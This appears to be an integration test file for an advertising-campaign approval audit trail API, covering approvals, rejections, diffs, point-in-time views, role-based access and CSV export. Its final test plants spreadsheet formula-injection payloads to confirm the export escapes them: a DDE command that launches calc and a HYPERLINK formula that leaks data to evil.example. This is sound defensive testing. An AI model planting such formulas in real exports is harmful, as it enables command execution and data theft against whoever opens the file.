// The approval audit trail (issue 10 §3) over HTTP: a reviewer's interim approval, a manager's final approval and
// rejection, an edit that lapses the approval, the approval again; then the trail's list and filters, the diff of two
// approved versions, "as approved at T", the CSV export, an event written before approvals were bound, and the rebuild.
import { spawn } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { CAMPAIGN_ACCESS_DENIED } from '../../domain/campaign';
import { contentFingerprint } from '../../domain/personalise/fingerprint';
import { MESSAGES } from '../../domain/shared/errors';
import { addNode, inviteAndAccept } from '../support/fixtures';
import type { HttpClient, Reply } from '../support/http';
import { expectStatus, newVariant, patch, usePersonaliseWorld, variant } from './personalise-fixture';

const w = usePersonaliseWorld();
let G: string;
let trail: string;
let variantId: string;
let formatA: string;
let formatB: string;

interface TrailRecord {
  id: string;
  decision: string;
  kind: string | null;
  formatId: string;
  variantId: string;
  variantName: string;
  templateName: string;
  role: string;
  at: string;
  by: { userId: string; name: string | null; email: string | null };
  fingerprint: string;
  fingerprintRecorded: boolean;
  comment: string | null;
  content: { templateId: string; version: number; values: Record<string, { value: string }>; cards: number | null };
}

const headline = async (value: string, formats: string[]) =>
  expectStatus(
    await patch(w.as('SELF_SERVICE_ADMIN'), `${G}/formats/dynamic-elements`, {
      formats,
      elements: { headline: { value } },
    }),
    200,
  );
const decide = async (
  client: HttpClient,
  body: { approvals?: string[]; rejections?: string[]; final: boolean; comment?: string },
) =>
  expectStatus(
    await patch(client, `/campaigns/${w.campaignId}/creatives/approvals`, {
      treeId: w.google,
      approvals: [],
      rejections: [],
      ...body,
    }),
    200,
  );
const list = async (client: HttpClient, query = ''): Promise<Reply<TrailRecord[]>> => client.get(`${trail}${query}`);
/** The filtered trail, oldest first. */
const filtered = async (filter: Record<string, string>) =>
  expectStatus(
    await list(w.su, `?filter=${encodeURIComponent(JSON.stringify(filter))}&sort=["at","ASC"]&range=[0,99]`),
    200,
  ).body;
const all = async () => filtered({});

beforeAll(async () => {
  G = w.path(w.google);
  trail = `/campaigns/${w.campaignId}/approval-trail`;
  variantId = await newVariant(w.as('SELF_SERVICE_ADMIN'), G, 'Hero');
  [formatA, formatB] = (await variant(w.su, G, variantId)).formats.map((f) => f.id) as [string, string];
  await headline('Summer sale', [formatA, formatB]);
  await decide(w.as('REVIEWER'), { approvals: [formatA, formatB], final: false });
  await decide(w.as('MANAGER'), {
    approvals: [formatA],
    rejections: [formatB],
    final: true,
    comment: 'B misses the legal line',
  });
  await headline('Autumn sale', [formatA]);
  await decide(w.as('MANAGER'), { approvals: [formatA], final: true });
}, 240_000);

describe('the trail', () => {
  it('lists every decision per format, newest first, with who, role, kind, decision, fingerprint and the content judged', async () => {
    const reply = expectStatus(await list(w.as('REVIEWER'), '?sort=["at","DESC"]&range=[0,9]'), 200);
    expect(reply.headers.get('content-range')).toBe('approval-trail 0-5/6');
    const rows = [...reply.body]
      .reverse()
      .map((r) => [r.formatId, r.decision, r.kind, r.role, r.content.values.headline!.value]);
    expect(rows).toEqual([
      [formatA, 'approved', 'interim', 'REVIEWER', 'Summer sale'],
      [formatB, 'approved', 'interim', 'REVIEWER', 'Summer sale'],
      [formatA, 'approved', 'final', 'MANAGER', 'Summer sale'],
      [formatB, 'rejected', 'final', 'MANAGER', 'Summer sale'],
      [formatA, 'lapsed', null, 'SELF_SERVICE_ADMIN', 'Autumn sale'],
      [formatA, 'approved', 'final', 'MANAGER', 'Autumn sale'],
    ]);
    const manager = w.acme.users.MANAGER!;
    const last = reply.body[0]!;
    expect(last.by).toEqual({ userId: manager.id, name: expect.any(String), email: manager.email });
    expect([last.variantId, last.variantName, last.fingerprintRecorded]).toEqual([variantId, 'Hero', true]);
    expect(reply.body.map((r) => r.comment)).toEqual([
      null,
      null,
      'B misses the legal line',
      'B misses the legal line',
      null,
      null,
    ]);
  });

  it("each fingerprint is the content's: the same content the same fingerprint, an edit another one", async () => {
    const records = await all();
    for (const r of records)
      expect(r.fingerprint).toBe(
        contentFingerprint(
          { templateId: r.content.templateId, version: r.content.version },
          r.content.values as never,
          r.content.cards,
        ),
      );
    const ofA = records.filter((r) => r.formatId === formatA).map((r) => r.fingerprint);
    expect(ofA[0]).toBe(ofA[1]);
    expect(ofA[2]).not.toBe(ofA[1]);
    expect(ofA[3]).toBe(ofA[2]);
  });

  it('filters by user, kind, decision, variant and time; a filter it cannot read is 400 Wrong params', async () => {
    const reviewer = w.acme.users.REVIEWER!.id;
    expect((await filtered({ user: reviewer })).map((r) => r.role)).toEqual(['REVIEWER', 'REVIEWER']);
    expect((await filtered({ kind: 'final' })).length).toBe(3);
    expect((await filtered({ decision: 'rejected' })).map((r) => r.formatId)).toEqual([formatB]);
    expect((await filtered({ decision: 'lapsed', variantId })).map((r) => r.content.values.headline!.value)).toEqual([
      'Autumn sale',
    ]);
    const records = await all();
    expect((await filtered({ from: records[2]!.at, to: records[3]!.at })).length).toBeGreaterThanOrEqual(2);
    expect(await filtered({ from: '2000-01-01T00:00:00Z', to: '2000-01-02T00:00:00Z' })).toEqual([]);
    for (const filter of [{ kind: 'maybe' }, { from: 'yesterday' }]) {
      const reply = await list(w.su, `?filter=${encodeURIComponent(JSON.stringify(filter))}`);
      expect([reply.status, reply.body]).toMatchObject([400, { message: MESSAGES.wrongParams }]);
    }
  });

  it('the diff of two approved versions names the element that changed', async () => {
    const approvedA = (await all()).filter(
      (r) => r.formatId === formatA && r.decision === 'approved' && r.kind === 'final',
    );
    const reply = expectStatus(
      await w.as('MANAGER').get(`${trail}/diff?from=${approvedA[0]!.id}&to=${approvedA[1]!.id}`),
      200,
    );
    expect(reply.body.elements.filter((e: { change: string }) => e.change !== 'unchanged')).toEqual([
      {
        name: 'headline',
        change: 'changed',
        before: { value: 'Summer sale', assetId: null, thumbLocation: null },
        after: { value: 'Autumn sale', assetId: null, thumbLocation: null },
      },
    ]);
    expect([reply.body.from.id, reply.body.to.id, reply.body.version]).toEqual([
      approvedA[0]!.id,
      approvedA[1]!.id,
      null,
    ]);
    const missing = await w.su.get(`${trail}/diff?from=${approvedA[0]!.id}&to=1-0`);
    expect([missing.status, missing.body.message]).toEqual([404, 'Approval record not found']);
  });

  it('as approved at T: each format with its latest record at or before T, unapproved before any', async () => {
    const records = await all();
    const asOf = async (at: string) => {
      const reply = expectStatus(
        await w
          .as('REVIEWER')
          .get(`${trail}/as-of?at=${encodeURIComponent(at)}&treeId=${w.google}&variantId=${variantId}`),
        200,
      );
      return Object.fromEntries(
        (reply.body as { formatId: string; state: string; record: TrailRecord | null }[]).map((r) => [
          r.formatId,
          [r.state, r.record?.by.userId ?? null, r.record?.content.values.headline?.value ?? null],
        ]),
      );
    };
    const manager = w.acme.users.MANAGER!.id;
    const reviewer = w.acme.users.REVIEWER!.id;
    expect(await asOf(records[1]!.at)).toEqual({
      [formatA]: ['interimApproved', reviewer, 'Summer sale'],
      [formatB]: ['interimApproved', reviewer, 'Summer sale'],
    });
    expect(await asOf(records[3]!.at)).toEqual({
      [formatA]: ['approved', manager, 'Summer sale'],
      [formatB]: ['rejected', manager, 'Summer sale'],
    });
    expect(await asOf(records[4]!.at)).toMatchObject({
      [formatA]: ['unapproved', w.acme.users.SELF_SERVICE_ADMIN!.id, 'Autumn sale'],
    });
    expect(await asOf(records[5]!.at)).toMatchObject({ [formatA]: ['approved', manager, 'Autumn sale'] });
    const before = new Date(Date.parse(records[0]!.at) - 1).toISOString();
    expect(await asOf(before)).toEqual({
      [formatA]: ['unapproved', null, null],
      [formatB]: ['unapproved', null, null],
    });
    const bad = await w.su.get(`${trail}/as-of?at=soon`);
    expect(bad.status).toBe(400);
  });
});

describe('who reads it', () => {
  const calls = (campaignId: string) => [
    `/campaigns/${campaignId}/approval-trail`,
    `/campaigns/${campaignId}/approval-trail.csv`,
    `/campaigns/${campaignId}/approval-trail/as-of?at=2030-01-01T00:00:00Z`,
    `/campaigns/${campaignId}/approval-trail/diff?from=1-0&to=1-0`,
  ];

  it('every role of the campaign reads it; the analyst (reporting only, spec 2 §6) gets 403; strangers get 401', async () => {
    for (const role of [
      'SELF_SERVICE_ADMIN',
      'SELF_SERVICE_MANAGER',
      'SELF_SERVICE_REVIEWER',
      'MANAGER',
      'REVIEWER',
    ] as const) {
      expect((await w.as(role).get(calls(w.campaignId)[0]!)).status, role).toBe(200);
    }
    for (const path of calls(w.campaignId)) {
      const reply = await w.as('ANALYST').get(path);
      expect([reply.status, reply.body.message], path).toEqual([403, 'Wrong user roles']);
      expect((await w.t.client().get(path)).status).toBe(401);
    }
  });

  it("a user on a node the campaign is not on, and another partner's users, are refused; a top admin reads any partner's", async () => {
    const elsewhere = await addNode(w.su, w.acme.partnerId, { parentId: null, name: 'APAC', type: 'region' });
    const outsider = (await inviteAndAccept(w.t, w.su, w.acme.partnerId, elsewhere, 'REVIEWER')).client;
    for (const path of calls(w.campaignId)) {
      const reply = await outsider.get(path);
      expect([reply.status, reply.body.message], path).toEqual([403, CAMPAIGN_ACCESS_DENIED]);
    }
    for (const path of calls(w.foreign.campaignId)) {
      const reply = await w.as('SELF_SERVICE_ADMIN').get(path);
      expect([reply.status, reply.body.message], path).toEqual([403, CAMPAIGN_ACCESS_DENIED]);
    }
    expectStatus(await w.su.get(calls(w.foreign.campaignId)[0]!), 200);
  });

  it("another campaign's record is not found through this one", async () => {
    const foreignVariant = await newVariant(
      w.su,
      `/campaigns/${w.foreign.campaignId}/personalize/${w.foreign.treeId}`,
      'Foreign',
    );
    const foreignFormat = (
      await variant(w.su, `/campaigns/${w.foreign.campaignId}/personalize/${w.foreign.treeId}`, foreignVariant)
    ).formats[0]!.id;
    expectStatus(
      await patch(w.su, `/campaigns/${w.foreign.campaignId}/creatives/approvals`, {
        treeId: w.foreign.treeId,
        approvals: [foreignFormat],
        rejections: [],
        final: true,
      }),
      200,
    );
    const foreignRecord = expectStatus(await w.su.get(`/campaigns/${w.foreign.campaignId}/approval-trail`), 200).body[0]
      .id as string;
    const own = (await all())[0]!.id;
    const reply = await w.su.get(`${trail}/diff?from=${own}&to=${foreignRecord}`);
    expect([reply.status, reply.body.message]).toEqual([404, 'Approval record not found']);
  });
});

describe('events written before approvals were bound', () => {
  it('get the fingerprint of the content they judged, computed from the replayed stream', async () => {
    const { store } = w.t.system.deps;
    const reviewer = w.acme.users.REVIEWER!;
    const at = new Date().toISOString();
    const appended = await store.append(
      `PersonaliseTree-${w.google}`,
      [
        {
          type: 'FormatApprovalsChanged',
          data: {
            treeId: w.google,
            campaignId: w.campaignId,
            approvals: [formatB],
            rejections: [],
            final: false,
            by: reviewer.id,
            role: 'REVIEWER',
            at,
          },
          metadata: {
            actor: { userId: reviewer.id, role: 'REVIEWER' },
            partnerId: w.acme.partnerId,
            correlationId: 'legacy',
            causationId: null,
            occurredAt: at,
            schemaVersion: 1,
          },
        },
      ],
      'any',
    );
    expect(await w.t.system.runner.waitFor(appended.position)).toBe(true);
    const ofB = (await all()).filter((r) => r.formatId === formatB);
    expect(ofB.map((r) => [r.decision, r.kind, r.fingerprintRecorded, r.comment])).toEqual([
      ['approved', 'interim', true, null],
      ['rejected', 'final', true, 'B misses the legal line'],
      ['approved', 'interim', false, null],
    ]);
    expect(ofB[2]!.fingerprint).toBe(ofB[1]!.fingerprint);
  });
});

describe('the CSV export', () => {
  it('streams the whole filtered trail, past any page size', async () => {
    const { store } = w.t.system.deps;
    const manager = w.acme.users.MANAGER!;
    const at = new Date().toISOString();
    // 520 decisions on two formats: 1,040 records, more than a page may hold.
    const events = Array.from({ length: 520 }, () => ({
      type: 'FormatApprovalsChanged',
      data: {
        treeId: w.google,
        campaignId: w.campaignId,
        approvals: [formatA, formatB],
        rejections: [],
        final: true,
        by: manager.id,
        role: 'MANAGER',
        at,
        fingerprints: { [formatA]: 'a', [formatB]: 'b' },
        comment: 'Bulk, "quoted", done',
      },
      metadata: {
        actor: { userId: manager.id, role: 'MANAGER' as const },
        partnerId: w.acme.partnerId,
        correlationId: 'bulk',
        causationId: null,
        occurredAt: at,
        schemaVersion: 1,
      },
    }));
    const appended = await store.append(`PersonaliseTree-${w.google}`, events, 'any');
    expect(await w.t.system.runner.waitFor(appended.position)).toBe(true);
    const total = Number(
      expectStatus(await list(w.su), 200)
        .headers.get('content-range')!
        .split('/')[1],
    );
    expect(total).toBeGreaterThan(1040);

    const reply = expectStatus(await w.as('REVIEWER').get(`${trail}.csv`), 200);
    expect(reply.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parse(reply.body as string, { columns: true }) as Record<string, string>[];
    expect(rows.length).toBe(total);
    expect(rows[0]).toMatchObject({
      Decision: 'Approved',
      Type: 'Interim',
      Role: 'REVIEWER',
      'User id': w.acme.users.REVIEWER!.id,
      Variant: 'Hero',
      'Variant id': variantId,
    });
    expect(JSON.parse(rows[0]!.Content!).headline.value).toBe('Summer sale');
    expect(rows.at(-1)).toMatchObject({
      Decision: 'Approved',
      Type: 'Final',
      Comment: 'Bulk, "quoted", done',
      'Content fingerprint': 'b',
    });

    const lapsed = parse(
      expectStatus(await w.su.get(`${trail}.csv?filter=${encodeURIComponent('{"decision":"lapsed"}')}`), 200)
        .body as string,
      { columns: true },
    ) as Record<string, string>[];
    expect(lapsed.map((r) => r['Format id'])).toEqual([formatA]);
  });
});

describe('the read model', () => {
  const tables = ['approval_tree', 'approval_variant', 'approval_format', 'approval_record'];
  const snapshot = async () =>
    Promise.all(
      tables.map(async (table) => (await w.t.system.deps.pool.query(`SELECT * FROM ${table} ORDER BY 1`)).rows),
    );

  it('a rebuild gives exactly the rows the live projection built', async () => {
    const live = await snapshot();
    expect(live[3]!.length).toBeGreaterThan(1000);
    await w.t.system.runner.rebuild('approvals');
    expect(await snapshot()).toEqual(live);
  });

  it('so does `npm run projections:rebuild approvals`, run against the database while the product runs', async () => {
    const live = await snapshot();
    const code = await new Promise<number | null>((resolve, reject) => {
      const child = spawn('npm', ['run', '--silent', 'projections:rebuild', 'approvals'], {
        env: { ...process.env, DATABASE_URL: w.t.config.databaseUrl! },
        stdio: ['ignore', 'pipe', 'inherit'],
      });
      child.on('error', reject);
      child.on('exit', resolve);
    });
    expect(code).toBe(0);
    expect(await snapshot()).toEqual(live);
  }, 120_000);
});

describe('the CSV export in a spreadsheet', () => {
  it('escapes cells a spreadsheet would run as formulas, and starts with a UTF-8 BOM', async () => {
    const formula = "=cmd|' /C calc'!A0";
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")';
    const id = await newVariant(w.as('SELF_SERVICE_ADMIN'), G, formula);
    const [format] = (await variant(w.su, G, id)).formats.map((f) => f.id) as [string];
    await headline('+1 Winter sale', [format]);
    await decide(w.as('MANAGER'), { approvals: [format], final: true, comment: hyperlink });

    const response = await fetch(
      `${w.t.baseUrl}/api/v1${trail}.csv?filter=${encodeURIComponent(JSON.stringify({ variantId: id }))}`,
      { headers: { cookie: w.su.cookieHeader() } },
    );
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.Variant, r.Comment])).toEqual([[`'${formula}`, `'${hyperlink}`]]);
    // A cell that only holds a formula somewhere inside (the content's JSON) is left as it is.
    expect(JSON.parse(rows[0]!.Content!).headline.value).toBe('+1 Winter sale');
  });
});
